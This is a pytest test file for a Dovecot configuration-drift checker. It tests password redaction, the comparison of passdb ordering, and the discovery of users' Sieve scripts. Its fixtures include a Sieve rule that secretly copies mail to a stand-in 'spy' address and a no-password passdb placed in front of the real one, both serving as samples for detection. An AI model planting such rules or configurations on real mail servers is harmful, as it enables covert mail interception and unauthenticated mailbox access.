"""What drift reads of Dovecot: no password, every database in its order, and each user's script wherever it lies."""

import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from fixtures.gates import dellparts
from fixtures.gates.dellparts import ORDER
from fixtures.gates.drift import hosts
from fixtures.gates.drift.judging import strangers
from fixtures.gates.present import DOVECOT, without_passwords

SPY = 'redirect :copy "spy@gmail.example"'
IN_FRONT = "passdb {\n  args = nopassword=y allow_nets=203.0.113.0/24\n  driver = static\n}\n"
THEIRS = "passdb {\n  args = /etc/users\n  driver = passwd-file\n}\n"
"""As Dovecot 2.3 prints it, where no block of this kind has a name."""


class Host:
    """A machine whose Dovecot says what it is asked."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.bin = folder / "bin"
        self.bin.mkdir()

    def put(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="ascii")
        return path

    def parts(self, conf: str, users: Mapping[str, str]) -> dict[str, str]:
        """CONF: what ``doveconf -n`` prints; USERS: each with doveadm's fields. HERE is the folder."""
        (self.folder / "conf").write_text(f"# 2.3.19.1 (9b): /etc/dovecot/dovecot.conf\n{conf}", encoding="ascii")
        for user, fields in users.items():
            self.put(f"said/{user}", fields)
        programs = {"doveconf": f"cat {self.folder}/conf", "doveadm": f'exec cat "{self.folder}/said/$2"'}
        for name, does in programs.items():
            (self.bin / name).write_text(f"#!/bin/sh\n{does}\n", encoding="ascii")
            (self.bin / name).chmod(0o755)
        path = {"PATH": f"{self.bin}:/usr/bin:/bin"}
        argv = ["sh", "-c", hosts.DOVECOT, "sh", *users, "nobody@x.org"]
        done = subprocess.run(argv, capture_output=True, text=True, env=path, check=True)
        return hosts.dovecot(done.stdout)[0]


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path)


@pytest.mark.parametrize("driver", ["ldap", "sql", "oauth2", "checkpassword", "lua"])
def test_of_a_file_that_is_no_list_of_users_the_digest_is_kept(host: Host, driver: str) -> None:
    """As iRedMail names one (samples/dovecot). A change of it is noticed all the same."""
    users = host.put("users", "anna:{PLAIN}hunter2:999:997::/srv/anna::pass=hunter2 nopassword=y\n")
    file = host.put(
        "x.conf.ext", "dnpass = hunter2\nconnect = host=x password='hunter2 words'\nurl = https://me:hunter2@x\n"
    )
    conf = (
        f"passdb {{\n  args = {file}\n  driver = {driver}\n}}\n"
        f"protocol imap {{\n  passdb {{\n    args = scheme=CRYPT {users}\n    driver = passwd-file\n  }}\n}}\n"
    )
    parts = host.parts(conf, {})
    assert "hunter2" not in repr(parts)
    assert "words" not in repr(parts)
    assert parts[f"users in {users}"] == f"anna::999:997::/srv/anna::pass=digest:{'f52fbd32b2b3b86f'} nopassword=y"
    was = parts[f"file {file}"]
    file.write_text("dnpass = hunter3\n", encoding="ascii")
    assert was != host.parts(conf, {})[f"file {file}"] != ""


@pytest.mark.parametrize(
    "line",
    [
        "ldap_auth_dn_password = hunter2 x",
        "  client_secret = hunter2",
        "  server_api_header = Authorization: Basic hunter2",
        "  server_url = http://me:hunter2@idp.example/x",
        "doveadm_api_key = hunter2",
        "  args = host=x password='hunter2 hunter2' allow_nets=x",
        '  pass = "hunter2 hunter2"',
        "  default_fields = dnpass=%hunter2",
        "  dnpass = #hunter2",
    ],
)
def test_a_password_is_one_however_it_is_named(line: str) -> None:
    """What Dovecot's doveconf hides of these is another in each version of it."""
    shown = without_passwords(line)
    assert "hunter2" not in shown
    assert shown != without_passwords(line.replace("hunter2", "hunter3"))
    assert without_passwords(shown) == shown


@pytest.mark.parametrize(
    "line",
    [
        "  args = proxy=y password=#hidden_use-P_to_show# x=y",
        "  args = nopassword=y allow_nets=192.0.2.0/24",
        "  fields = pass=%{password} x=%w pass=%w",
        "auth_policy_server_url = http://#hidden_use-P_to_show#@h/",
        "ssl_key = </etc/x.key",
        "auth_verbose_passwords = sha1:6",
        "passwd_file_path = /etc/dovecot/users",
    ],
)
def test_what_is_none_stays(line: str) -> None:
    assert without_passwords(line) == line


def parts_of(*blocks: str) -> dict[str, str]:
    return dict(dellparts.dovecot(f"2.3.19.1\nssl = no\n{''.join(blocks)}userdb {{\n  driver = prefetch\n}}\n"))


def test_each_database_is_compared_and_its_place() -> None:
    """Else anybody of a network could read every mailbox, and nothing would differ."""
    before, after = parts_of(THEIRS), parts_of(IN_FRONT, THEIRS)
    assert len(dellparts.differences(before, after)) == 2
    assert dellparts.differences(after, parts_of(THEIRS, IN_FRONT))
    names = "passdb own {\n  driver = static\n}\n", "passdb sql {\n}\n"
    (moved,) = dellparts.differences(parts_of(*names), parts_of(*reversed(names)))
    assert moved.startswith(f"{ORDER}: was passdb own, passdb sql, userdb, is passdb sql, passdb own")


HOME = "field\tvalue\nuid\t999\nhome\tHERE/anna\n"
PERSONAL = "sieve_script own {\n  active_path = %s\n  driver = file\n  path = ~/sieve\n  type = personal\n}\n"


@pytest.mark.parametrize(
    ("conf", "script"),
    [
        ("plugin {\n  sieve = ~/sieve/dovecot.sieve\n}\n", "anna/sieve/dovecot.sieve"),
        ("plugin {\n  sieve = file:%h/s;active=~/.active\n}\n", "anna/.active"),
        ("plugin {\n  sieve = file:HERE/sieve/%d/%Ln.sieve\n}\n", "sieve/X.org/anna.sieve"),
        ("plugin {\n  sieve = HERE/sieve/%{domain}/%{username}.sieve\n}\n", "sieve/X.org/Anna.sieve"),
        ("plugin {\n  sieve_before = HERE/before/%Ld\n}\n", "before/x.org/1.sieve"),
        ("plugin {\n  sieve = sieve/mine.sieve\n}\n", "anna/sieve/mine.sieve"),
        (PERSONAL % "~/sieve/dovecot.sieve", "anna/sieve/dovecot.sieve"),
        (PERSONAL % '"HERE/%{user | domain | lower}/%{user|username}.sieve"', "x.org/Anna.sieve"),
        (PERSONAL % "HERE/%{user|lower|username}/%{user}.sieve", "anna/Anna@X.org.sieve"),
        ("sieve_script b {\n  path = %{home}/b\n  type = before\n}\n", "anna/b/1.sieve"),
        ("", "anna/own.sieve"),
        ("", "anna/.dovecot.sieve"),
    ],
)
def test_a_users_script_is_found_where_the_settings_name_it(host: Host, conf: str, script: str) -> None:
    """As iRedMail and Mail-in-a-Box keep them (Dovecot, Sieve File Script Storage). One that is not active is none."""
    path = host.put(script, f"{SPY};")
    host.put("anna/sieve/not-active.sieve", 'redirect "other@gmail.example";')
    here = str(host.folder)
    fields = f"{HOME}sieve\t~/own.sieve\n".replace("HERE", here)
    parts = host.parts(conf.replace("HERE", here), {"Anna@X.org": fields})
    assert list(strangers(DOVECOT, parts, {"x.org"})) == [f"{DOVECOT}: Sieve {path}: {SPY}"]


def test_the_user_is_who_dovecot_takes_it_for(host: Host) -> None:
    path = host.put("s/anna.sieve", f"{SPY};")
    conf, fields = f"plugin {{\n  sieve = {host.folder}/s/%u.sieve\n}}\n", "field\tvalue\nuser\tanna\nuid\t9\n"
    (found,) = strangers(DOVECOT, host.parts(conf, {"anna@x.org": fields}), {"x.org"})
    assert str(path) in found


@pytest.mark.parametrize(
    ("conf", "place"),
    [
        ("plugin {\n  sieve = /srv/%1n/%n.sieve\n}\n", "/srv/%1n/%n.sieve"),
        (
            "plugin {\n  sieve_before = dict:redis:password=hunter2;name=active\n}\n",
            "dict:redis:password=digest:f52fbd32b2b3b86f",
        ),
        ("sieve_script own {\n  driver = ldap\n  type = personal\n}\n", "ldap:own"),
        (PERSONAL % "/srv/%{user|md5}.sieve", "/srv/%{user|md5}.sieve"),
    ],
)
def test_what_cant_be_followed_is_said(host: Host, conf: str, place: str) -> None:
    parts = host.parts(conf, {})
    assert parts[f"Sieve at {place}"] == hosts.UNSEEN
    (found,) = strangers(DOVECOT, parts, {"x.org"})
    assert found == f"{DOVECOT}: Sieve at {place}, which can't be read here, may lead mail anywhere"


def test_what_is_no_place_of_scripts_is_none(host: Host) -> None:
    conf = (
        "plugin {\n  sieve = ~/.dovecot.sieve\n  sieve_user_email = %{x}\n  sieve_extensions = +x\n}\n"
        "mail_plugins {\n  sieve = yes\n}\ndict_map x {\n  path = priv/$x\n}\n" + PERSONAL % "~/.dovecot.sieve"
    )
    assert not [each for each in host.parts(conf, {}) if each.startswith("Sieve ")]
